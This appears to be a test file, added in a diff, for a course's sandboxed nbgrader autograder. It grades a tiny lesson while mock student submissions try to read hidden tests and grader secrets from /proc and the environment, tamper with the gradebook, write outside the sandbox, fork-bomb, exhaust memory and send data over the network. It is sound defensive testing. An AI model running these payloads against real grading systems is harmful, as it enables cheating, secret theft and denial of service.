@@ -1,0 +1,392 @@
+"""Hostile submissions: `make grade` contains them (course_lib.harness.classroom + course_lib.harness.sandbox).
+
+One grading of a tiny lesson (two exercises, hidden tests) with an honest student and one student per attack:
+reading the hidden tests, writing the gradebook, writing outside its folder, reading another student's work
+and the grader's environment, a fork bomb, a memory hog, infinite loops that ignore SIGINT (one sleeping,
+one spinning), a network call, and a slow cell that nbgrader interrupts; plus submissions that are not
+notebooks. Each attack must fail, leave no trace
+outside its sandbox, be named in the report, and leave the honest student's full marks alone. The limits are
+small (1 GB, 8 CPU s, 64 processes, 30 s a notebook) so that the whole grading takes about a minute.
+"""
+import csv
+import json
+import os
+import socket
+import sqlite3
+import subprocess
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from course_lib.core import paths
+from course_lib.harness import classroom, sandbox
+from course_lib.harness.sandbox import Limits
+
+LESSON = "01_tiny"
+TAG = uuid.uuid4().hex[:12]
+HIDDEN_MARKER = f"hidden-test-{TAG}"      # only in the hidden tests
+HONEST_MARKER = f"honest-work-{TAG}"      # only in the honest student's solution
+SECRET = f"grader-secret-{TAG}"           # only in the grader's environment
+LIMITS = Limits(wall_seconds=30, cpu_seconds=8, memory_gb=1, processes=64)
+CELL_TIMEOUT = 12  # seconds per cell, nbgrader's own limit (interrupts the cell, then goes on)
+HOST_TMP_FILE = Path("/tmp") / f"written-by-a-submission-{TAG}"
+
+
+def _solution(grade_id, body):
+    return nbformat.v4.new_code_cell(body, metadata={"nbgrader": {
+        "grade": False, "grade_id": grade_id, "locked": False, "schema_version": 3, "solution": True}})
+
+
+def _tests(grade_id, visible, hidden, points):
+    source = f"{visible}\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS"
+    return nbformat.v4.new_code_cell(source, metadata={"nbgrader": {
+        "grade": True, "grade_id": grade_id, "locked": True, "points": points, "schema_version": 3,
+        "solution": False}})
+
+
+def tiny_lesson():
+    """A lesson in the course's exercise format, small enough to grade in seconds."""
+    nb = nbformat.v4.new_notebook()
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    nb.cells = [
+        nbformat.v4.new_markdown_cell("# A tiny lesson"),
+        nbformat.v4.new_code_cell("import math"),
+        nbformat.v4.new_markdown_cell("**Exercise 1.** Double a number."),
+        _solution("ex1_double", "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"),
+        _tests("ex1_tests", "assert double(1) == 2", f"assert double(21) == 42, {HIDDEN_MARKER!r}", 2),
+        nbformat.v4.new_markdown_cell("**Exercise 2.** Square root, rounded down."),
+        _solution("ex2_isqrt", "def isqrt(n):\n    ### BEGIN SOLUTION\n    return math.isqrt(n)\n    ### END SOLUTION"),
+        _tests("ex2_tests", "assert isqrt(4) == 2", f"assert isqrt(99) == 9, {HIDDEN_MARKER!r}", 1),
+    ]
+    return nb
+
+
+def _probe(paths_to_try, action):
+    """Source of a cell that tries `action` on each path, prints what worked, then repeats the first attempt
+    unguarded, so that the report shows the error a naive attack meets."""
+    targets = [str(p) if isinstance(p, Path) else p for p in paths_to_try]
+    return (f"_found = []\n"
+            f"for _path in {targets!r}:\n"
+            f"    try:\n"
+            f"        _found.append((_path, {action}))\n"
+            f"    except Exception as _err:\n"
+            f"        print('blocked:', _path, type(_err).__name__)\n"
+            f"print('got:', _found)\n"
+            f"_path = {targets[0]!r}\n"
+            f"{action}\n")
+
+
+def hostile_code(course: Path, submissions: Path, port: int) -> dict[str, str]:
+    """The cell each hostile student puts in place of exercise 1's solution."""
+    source = course / "source" / LESSON / f"{LESSON}.ipynb"
+    walk = ("import os\n"
+            "for _top in ('/', os.getcwd() + '/../../..'):\n"
+            "    for _dir, _subdirs, _files in os.walk(_top):\n"
+            "        _subdirs[:] = [d for d in _subdirs if d not in ('proc', 'sys', 'dev', 'usr') and\n"
+            "                       'site-packages' not in d and not d.startswith('python3')]\n"
+            "        for _name in _files:\n"
+            "            if _name.endswith(('.ipynb', '.db', '.json')):\n"
+            "                try:\n"
+            "                    _text = open(os.path.join(_dir, _name), errors='ignore').read()\n"
+            "                    if '### END ' + 'HIDDEN TESTS' in _text:  # not the literal: its own copy has it\n"
+            "                        print('hidden tests in', _dir, _name, _text)\n"
+            "                except OSError:\n"
+            "                    pass\n")
+    snoop = ("import os\n"
+             "print('environment:', dict(os.environ))\n"
+             "for _pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
+             "    for _what in ('cmdline', 'environ'):\n"
+             "        try:\n"
+             "            _text = open(f'/proc/{_pid}/{_what}', 'rb').read().decode(errors='ignore')\n"
+             "        except OSError:\n"
+             "            continue\n"
+             "        if 'honest-work-' in _text or 'grader-secret-' in _text:\n"
+             "            print('leak in', _pid, _what, _text)\n")
+    return {
+        "read_hidden": walk + _probe(
+            [source, course / "autograded" / "read_hidden" / LESSON / f"{LESSON}.ipynb", course / "gradebook.db",
+             Path("..") / ".." / ".." / "source" / LESSON / f"{LESSON}.ipynb"],
+            "open(_path, errors='ignore').read()"),
+        "write_gradebook": "import sqlite3\n" + _probe(
+            [course / "gradebook.db"],
+            "sqlite3.connect(f'file:{_path}?mode=rw', uri=True).executescript("
+            "'UPDATE grade SET auto_score = 100; CREATE TABLE pwned (x)')"),
+        "write_outside": _probe(
+            [course / "pwned.txt", paths.ROOT / f"pwned-{TAG}.txt", submissions / "honest" / "pwned.txt",
+             course / "release" / LESSON / f"{LESSON}.ipynb", HOST_TMP_FILE],
+            "open(_path, 'w').write('pwned')"),
+        "read_other": snoop + _probe(
+            [submissions / "honest" / f"{LESSON}.ipynb",
+             course / "submitted" / "honest" / LESSON / f"{LESSON}.ipynb",
+             classroom.sandbox_dir(course, "honest", LESSON) / "home" / f"{LESSON}.ipynb",
+             course / "autograded" / "honest" / LESSON / f"{LESSON}.ipynb"],
+            "open(_path).read()"),
+        "fork_bomb": ("import os\n"
+                      "while True:\n"
+                      "    try:\n"
+                      "        os.fork()\n"
+                      "    except OSError:\n"
+                      "        pass\n"),
+        "memory_hog": "hog = []\nwhile True:\n    hog.append(bytearray(128 * 2**20))  # 128 MB at a time, for ever\n",
+        "sigint_sleeper": ("import signal, time\n"
+                           "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                           "while True:\n"
+                           "    time.sleep(0.5)\n"),
+        "sigint_spinner": ("import signal\n"
+                           "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                           "while True:\n"
+                           "    pass\n"),
+        "slow_cell": "import time\ntime.sleep(10**6)  # a cell nbgrader must interrupt (SIGINT) after its timeout\n",
+        "network": "import socket\n" + _probe(
+            [("127.0.0.1", port), ("example.com", 80), ("1.1.1.1", 53)],
+            "socket.create_connection(_path, timeout=5).sendall(b'pwned')"),
+    }
+
+
+class Listener:
+    """A TCP server on the host's loopback that remembers whether anyone connected."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.close()
+
+    def close(self):
+        self.server.close()
+
+
+def _outputs_text(notebook: Path) -> str:
+    """What the student's own cells printed. (Not the test cells': when one fails, IPython's traceback quotes
+    the cell, hidden tests included; that is nbgrader's doing, not a way out of the sandbox.)"""
+    nb = nbformat.read(notebook, as_version=4)
+    return json.dumps([c.get("outputs", []) for c in nb.cells
+                       if c.cell_type == "code" and not c.metadata.get("nbgrader", {}).get("grade")])
+
+
+def _sandbox_uids_running() -> list[int]:
+    found = []
+    for status in Path("/proc").glob("[0-9]*/status"):
+        try:
+            uid = int(next(line for line in status.read_text().splitlines() if line.startswith("Uid:")).split()[1])
+        except (OSError, StopIteration, ValueError):
+            continue
+        if sandbox.UID_BASE <= uid < sandbox.UID_BASE + 1000:
+            found.append(uid)
+    return found
+
+
+def _namespaces_refused() -> str | None:
+    """Why the plainest bubblewrap sandbox fails here (no user namespaces, a container without privileges),
+    or None. Only then may the hostile suite skip: a failure of our own sandbox must fail the tests."""
+    bwrap = sandbox.bwrap_path()
+    if bwrap is None:
+        pytest.fail("bubblewrap is missing: install the instructor extra (pip install -e '.[instructor]')")
+    plain = [bwrap, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-pid", "--unshare-net"]
+    if os.geteuid() != 0:
+        plain.append("--unshare-user")
+    proc = subprocess.run([*plain, "true"], capture_output=True, text=True)
+    return None if proc.returncode == 0 else proc.stderr.strip()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    refused = _namespaces_refused()
+    if refused:
+        pytest.skip(f"this machine cannot sandbox (no user namespaces?): {refused}")
+    why = sandbox.unavailable_reason()
+    assert why is None, f"bubblewrap works here, but not our sandbox: {why}"
+    tmp = tmp_path_factory.mktemp("hostile")
+    notebooks, build, submissions = tmp / "notebooks", tmp / "build", tmp / "submissions"
+    notebooks.mkdir()
+    nbformat.write(tiny_lesson(), notebooks / f"{LESSON}.ipynb")
+    listener = Listener()
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(paths, "NOTEBOOKS", notebooks)      # the lessons are read from here
+        mp.setenv("COURSE_GRADER_TOKEN", SECRET)      # a secret in the grader's environment
+        release = classroom.generate_assignments([LESSON[:2]], build)[0]
+        course = build / "nbgrader"
+        hidden_before = (course / "source" / LESSON / f"{LESSON}.ipynb").read_bytes()
+        release_before = (course / "release" / LESSON / f"{LESSON}.ipynb").read_bytes()
+
+        honest = tiny_lesson()
+        honest.cells[3].source = honest.cells[3].source.replace("return 2 * x", f"return 2 * x  # {HONEST_MARKER}")
+        students = {"honest": honest}
+        for student, code in hostile_code(course, submissions, listener.port).items():
+            nb = nbformat.read(release, as_version=4)
+            nb.cells[3].source = code
+            students[student] = nb
+        for student, nb in students.items():
+            (submissions / student).mkdir(parents=True)
+            nbformat.write(nb, submissions / student / f"{LESSON}.ipynb")
+        (submissions / "bad_json").mkdir()
+        (submissions / "bad_json" / f"{LESSON}.ipynb").write_text('{"cells": [', encoding="utf-8")
+        (submissions / "symlink").mkdir()
+        (submissions / "symlink" / f"{LESSON}.ipynb").symlink_to(course / "source" / LESSON / f"{LESSON}.ipynb")
+
+        start = time.perf_counter()
+        result = classroom.grade(submissions, [LESSON[:2]], build, timeout=CELL_TIMEOUT, jobs=3,
+                                 limits=LIMITS)
+        seconds = time.perf_counter() - start
+    listener.close()
+    print(f"graded {len(result.outcomes)} submissions in {seconds:.0f} s")
+    yield {"result": result, "outcomes": {o.student: o for o in result.outcomes}, "course": course,
+           "build": build, "submissions": submissions, "listener": listener, "seconds": seconds,
+           "hidden_before": hidden_before, "release_before": release_before}
+    HOST_TMP_FILE.unlink(missing_ok=True)
+
+
+def _marks(graded, student):
+    return {m.grade_id: m.score for m in graded["result"].marks if m.student == student}
+
+
+def _autograded_outputs(graded, student):
+    return _outputs_text(graded["course"] / "autograded" / student / LESSON / f"{LESSON}.ipynb")
+
+
+def test_honest_student_keeps_full_marks(graded):
+    assert graded["outcomes"]["honest"].status == "graded"
+    assert graded["outcomes"]["honest"].notes == ()
+    assert _marks(graded, "honest") == {"ex1_tests": 2.0, "ex2_tests": 1.0}
+
+
+def test_reading_the_hidden_tests_finds_nothing(graded):
+    outcome = graded["outcomes"]["read_hidden"]
+    assert outcome.graded and any("FileNotFoundError" in n for n in outcome.notes), outcome
+    outputs = _autograded_outputs(graded, "read_hidden")
+    assert HIDDEN_MARKER not in outputs and "hidden tests in" not in outputs
+    assert "got: []" in outputs
+
+
+def test_writing_the_gradebook_fails_and_changes_no_grade(graded):
+    outcome = graded["outcomes"]["write_gradebook"]
+    assert outcome.graded and any("OperationalError" in n for n in outcome.notes), outcome
+    assert _marks(graded, "write_gradebook") == {"ex1_tests": 0.0, "ex2_tests": 0.0}
+    with sqlite3.connect(graded["course"] / "gradebook.db") as db:
+        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
+    assert "pwned" not in tables
+
+
+def test_writing_outside_its_folder_leaves_no_trace(graded):
+    outcome = graded["outcomes"]["write_outside"]
+    assert outcome.graded and any("Error" in n for n in outcome.notes), outcome
+    course = graded["course"]
+    for path in [course / "pwned.txt", paths.ROOT / f"pwned-{TAG}.txt",
+                 graded["submissions"] / "honest" / "pwned.txt", HOST_TMP_FILE]:
+        assert not path.exists(), f"a submission wrote {path}"
+    assert (course / "release" / LESSON / f"{LESSON}.ipynb").read_bytes() == graded["release_before"]
+    assert (course / "source" / LESSON / f"{LESSON}.ipynb").read_bytes() == graded["hidden_before"]
+    # its /tmp is private: the write "succeeded" there, inside its own sandbox folder
+    private_tmp = classroom.sandbox_dir(course, "write_outside", LESSON) / "tmp" / HOST_TMP_FILE.name
+    assert private_tmp.read_text() == "pwned"
+
+
+def test_another_students_work_and_the_graders_environment_are_out_of_reach(graded):
+    outcome = graded["outcomes"]["read_other"]
+    assert outcome.graded and any("FileNotFoundError" in n for n in outcome.notes), outcome
+    outputs = _autograded_outputs(graded, "read_other")
+    assert "environment:" in outputs and "got: []" in outputs
+    assert HONEST_MARKER not in outputs and SECRET not in outputs and "COURSE_GRADER_TOKEN" not in outputs
+    assert "leak in" not in outputs
+
+
+def test_fork_bomb_is_stopped_and_leaves_no_process(graded):
+    outcome = graded["outcomes"]["fork_bomb"]
+    assert outcome.status.startswith("not graded:"), outcome
+    assert _sandbox_uids_running() == []
+
+
+def test_memory_hog_meets_the_memory_limit(graded):
+    outcome = graded["outcomes"]["memory_hog"]
+    assert outcome.graded and any("MemoryError" in n for n in outcome.notes), outcome
+
+
+def test_loop_ignoring_sigint_is_stopped_by_the_wall_clock(graded):
+    outcome = graded["outcomes"]["sigint_sleeper"]
+    assert outcome.status == f"not graded: exceeded the {LIMITS.wall_seconds} s wall-clock limit (stopped)"
+
+
+def test_spinning_loop_ignoring_sigint_is_stopped_by_the_cpu_limit(graded):
+    outcome = graded["outcomes"]["sigint_spinner"]
+    # On a busy machine the wall clock may end the grading first; the kernel still died of its CPU limit.
+    assert outcome.status.startswith("not graded:"), outcome
+    assert "killed by SIGXCPU: the CPU-time limit" in " ".join([outcome.status, *outcome.notes]), outcome
+
+
+def test_a_cell_past_its_timeout_is_interrupted_and_grading_goes_on(graded):
+    outcome = graded["outcomes"]["slow_cell"]  # SIGINT must reach the kernel through bwrap, and not kill it
+    assert outcome.graded and "ex1_double: KeyboardInterrupt" in outcome.notes, outcome
+    assert _marks(graded, "slow_cell") == {"ex1_tests": 0.0, "ex2_tests": 0.0}
+
+
+def test_network_calls_fail(graded):
+    outcome = graded["outcomes"]["network"]
+    assert outcome.graded and any("ConnectionRefusedError" in n or "OSError" in n for n in outcome.notes), outcome
+    assert "got: []" in _autograded_outputs(graded, "network")
+    assert graded["listener"].connections == 0, "a submission reached a server on the grader's loopback"
+
+
+def test_submissions_that_are_not_notebooks_are_not_gradable(graded):
+    assert graded["outcomes"]["bad_json"].status.startswith("not gradable: not a notebook (NotJSONError")
+    assert graded["outcomes"]["symlink"].status == "not gradable: a symbolic link, not a notebook file"
+
+
+def test_grades_csv_names_every_misbehaving_submission(graded):
+    with open(graded["build"] / "grades.csv", newline="", encoding="utf-8") as f:
+        rows = {r["student_id"]: r for r in csv.DictReader(f)}
+    assert set(rows) == set(graded["outcomes"])
+    for student, outcome in graded["outcomes"].items():
+        assert rows[student]["status"] == outcome.status
+        assert rows[student]["notes"] == "; ".join(outcome.notes)
+        if not outcome.graded:
+            assert rows[student]["score"] == "", f"{student} was not graded but shows a score"
+    assert float(rows["honest"]["score"]) == 3.0 and rows["honest"]["notes"] == ""
+    assert rows["bad_json"]["max_score"] == "3.0"
+    assert [s for s, o in graded["outcomes"].items() if o.notes == () and o.graded] == ["honest"]
+
+
+def test_no_feedback_from_a_notebook_that_did_not_run_through(graded):
+    feedback = graded["build"] / "feedback"
+    assert (feedback / "honest" / f"{LESSON}.html").exists()
+    for student in ("fork_bomb", "sigint_sleeper", "sigint_spinner", "bad_json", "symlink"):
+        assert not (feedback / student / f"{LESSON}.html").exists()
+
+
+# ---- cheap: no notebook runs ----
+
+def test_grading_refuses_without_a_sandbox(monkeypatch, tmp_path):
+    monkeypatch.setattr(sandbox, "unavailable_reason", lambda: "user namespaces are disabled")
+    with pytest.raises(RuntimeError, match="(?s)user namespaces are disabled.*--unsafe-no-sandbox"):
+        classroom.grade(tmp_path, ["01"], tmp_path / "build")
+
+
+@pytest.mark.parametrize("content, why", [
+    ('{"cells": [', "not a notebook (NotJSONError"),
+    ("\udcff", "not a notebook"),
+    ('{"cells": 3, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "not a notebook (TypeError"),
+    ('{"cells": [{"cell_type": "code", "id": "a", "metadata": {}, "source": ""}], "metadata": {}, '
+     '"nbformat": 4, "nbformat_minor": 5}', "not a valid notebook ('outputs' is a required property"),
+])
+def test_not_a_notebook_says_why(tmp_path, content, why):
+    path = tmp_path / "alice" / f"{LESSON}.ipynb"
+    path.parent.mkdir()
+    path.write_bytes(content.encode("utf-8", "surrogateescape"))
+    assert classroom._why_not_gradable(path, tmp_path).startswith(why)
+
+
+def test_limits_name_the_bad_argument():
+    with pytest.raises(ValueError, match=r"Limits.memory_gb=0: expected a number > 0"):
+        Limits(memory_gb=0)
